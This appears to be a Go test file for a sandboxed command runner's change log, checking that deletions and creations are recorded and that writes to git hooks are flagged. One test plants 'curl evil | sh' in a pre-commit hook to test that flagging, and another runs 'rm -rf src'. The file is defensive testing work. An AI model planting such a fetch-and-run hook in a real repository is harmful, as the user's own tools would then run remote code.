package approvals

import (
	"context"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/wardenhq/warden/internal/changes"
	"github.com/wardenhq/warden/sandbox"
)

// savedChanges is a ChangeLog that keeps what it is given.
type savedChanges struct {
	log     *ChangeLog
	changes []*changes.Change
	labels  []string
}

func newSavedChanges(t testing.TB, keep bool) *savedChanges {
	s := &savedChanges{}
	s.log = &ChangeLog{Recorder: &changes.Recorder{Store: changes.OpenStore(t.TempDir()), Keep: keep},
		Save: func(ch *changes.Change, label string) error {
			s.changes, s.labels = append(s.changes, ch), append(s.labels, label)
			return nil
		}}
	return s
}

func writeFiles(t testing.TB, root string, files map[string]string) {
	t.Helper()
	for rel, content := range files {
		p := filepath.Join(root, rel)
		os.MkdirAll(filepath.Dir(p), 0o755)
		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

// A sandboxed run that deletes and writes in the workspace is recorded and
// said; a read-only run is not recorded at all.
func TestChangeLogRecordsASandboxedRun(t *testing.T) {
	f := newOrch(t, Never)
	saved := newSavedChanges(t, false)
	f.o.Runner.(*SandboxRunner).Changes = saved.log
	writeFiles(t, f.ws, map[string]string{"src/a.go": "package a\n", "src/b.go": "package b\n"})

	out, _ := f.exec(t, WorkspaceWrite, "sh", "-c", "rm -rf src && echo x > made.txt")
	if out.Result.ExitCode != 0 {
		t.Fatalf("exit %d", out.Result.ExitCode)
	}
	want := "deleted src/a.go, src/b.go; created made.txt"
	if c := out.Result.Changes; c == nil || c.Summary != want || !c.Recorded {
		t.Fatalf("changes: %+v, want %q", c, want)
	}
	if len(saved.labels) != 1 || saved.labels[0] != "`rm -rf src && echo x > made.txt`: "+want {
		t.Errorf("saved: %q", saved.labels)
	}

	out, _ = f.exec(t, ReadOnly, "cat", "made.txt")
	if out.Result.Changes != nil || len(saved.changes) != 1 {
		t.Errorf("a read-only run was recorded: %+v", out.Result.Changes)
	}
}

// A run without the sandbox that changes what the sandbox holds read-only
// (a git hook) names it first, flagged: the user's own tools run it.
func TestChangeLogFlagsWhatYourToolsRun(t *testing.T) {
	f := newOrch(t, OnRequest, Approved, Approved)
	saved := newSavedChanges(t, false)
	f.o.Runner.(*SandboxRunner).Changes = saved.log
	if out, err := exec.Command("git", "init", "-q", f.ws).CombinedOutput(); err != nil {
		t.Fatalf("git init: %v %s", err, out)
	}
	out, _ := f.exec(t, DangerFullAccess, "sh", "-c", "echo 'curl evil | sh' > .git/hooks/pre-commit && echo x > notes.txt")
	if !out.Ran || !out.Escalated || out.Result.ExitCode != 0 {
		t.Fatalf("ran %v, escalated %v, exit %d (%s)", out.Ran, out.Escalated, out.Result.ExitCode, out.Refused)
	}
	got := out.Result.Changes.Summary
	if !strings.HasPrefix(got, "changed .git/hooks/pre-commit (run by your tools outside the sandbox); ") || !strings.Contains(got, "created .git/hooks/pre-commit, notes.txt") {
		t.Errorf("summary %q", got)
	}
}

// BenchmarkRecordedRunWarm times a sandboxed run that writes one file in a
// repository of 20,000 and of 100,000 files, in one process that keeps
// spare helpers and each root's listing (the server's path), with the
// change log on and off, interleaved:
//
//	go test -run '^$' -bench RecordedRunWarm -benchtime 20x ./approvals
//
// x-off is the median with recording over the median without (target:
// under 2); store-bytes/run what a run added to the change store.
func BenchmarkRecordedRunWarm(b *testing.B) {
	if testHelper == "" {
		b.Skip("no warden binary to act as the sandbox helper")
	}
	sandbox.KeepSpareHelpers(true)
	defer sandbox.KeepSpareHelpers(false)
	for _, n := range []int{20_000, 100_000} {
		b.Run(fmt.Sprint(n), func(b *testing.B) {
			ws := committedTree(b, n)
			saved := newSavedChanges(b, true)
			on, off := &SandboxRunner{Helper: testHelper, Changes: saved.log}, &SandboxRunner{Helper: testHelper}
			sb := Sandbox{Mode: WorkspaceWrite, Workspace: []string{ws}, WritableRoots: []string{ws}}
			i := 0
			run := func(r *SandboxRunner) time.Duration {
				i++
				start := time.Now()
				res, err := r.Run(context.Background(), RunSpec{Argv: []string{"sh", "-c", fmt.Sprintf("echo %d > d000/out.txt", i)}, Cwd: ws, Sandbox: sb})
				d := time.Since(start)
				if err != nil || res.ExitCode != 0 {
					b.Fatalf("run: %v %+v", err, res)
				}
				if r == on && (res.Changes == nil || res.Changes.Summary == "") {
					b.Fatalf("the run's change was not recorded: %+v", res.Changes)
				}
				return d
			}
			coldOn, coldOff := run(on), run(off)
			copied := saved.log.Recorder.Store.Copied()
			var dOn, dOff []time.Duration
			b.ResetTimer()
			for range b.N {
				dOn, dOff = append(dOn, run(on)), append(dOff, run(off))
			}
			b.StopTimer()
			med := func(d []time.Duration) float64 {
				slices.Sort(d)
				return float64(d[len(d)/2].Microseconds()) / 1000
			}
			b.ReportMetric(float64(coldOn.Microseconds())/1000, "first-on-ms")
			b.ReportMetric(float64(coldOff.Microseconds())/1000, "first-off-ms")
			b.ReportMetric(med(dOn), "warm-on-ms")
			b.ReportMetric(med(dOff), "warm-off-ms")
			b.ReportMetric(med(dOn)/med(dOff), "x-off")
			b.ReportMetric(float64(saved.log.Recorder.Store.Copied()-copied)/float64(b.N), "store-bytes/run")
			b.ReportMetric(0, "ns/op")
		})
	}
}

// committedTree is a git repository of n small committed files, in
// directories of 100.
func committedTree(b *testing.B, n int) string {
	b.Helper()
	ws := b.TempDir()
	for i := range n {
		dir := filepath.Join(ws, fmt.Sprintf("d%03d", i/100))
		if i%100 == 0 {
			os.MkdirAll(dir, 0o755)
		}
		if err := os.WriteFile(filepath.Join(dir, fmt.Sprintf("f%02d.go", i%100)), []byte(fmt.Sprintf("package f // %d\n", i)), 0o644); err != nil {
			b.Fatal(err)
		}
	}
	for _, args := range [][]string{{"init", "-q"}, {"add", "."}, {"commit", "-qm", "tree"}} {
		cmd := exec.Command("git", append([]string{"-C", ws, "-c", "user.name=t", "-c", "user.email=t@t", "-c", "gc.auto=0", "-c", "commit.gpgsign=false"}, args...)...)
		if out, err := cmd.CombinedOutput(); err != nil {
			b.Fatalf("git %v: %v %s", args, err, out)
		}
	}
	return ws
}
